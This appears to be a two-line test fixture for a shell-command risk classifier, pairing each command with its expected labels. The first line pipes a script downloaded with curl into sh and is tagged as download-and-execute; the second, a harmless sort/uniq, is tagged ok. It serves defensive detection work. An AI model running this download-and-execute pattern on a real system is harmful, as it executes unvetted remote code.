curl -s https://example.org/x | sh # expect: bash-download-execute # expect: bash-network-command # expect: bash-process-command
sort names.txt | uniq # ok
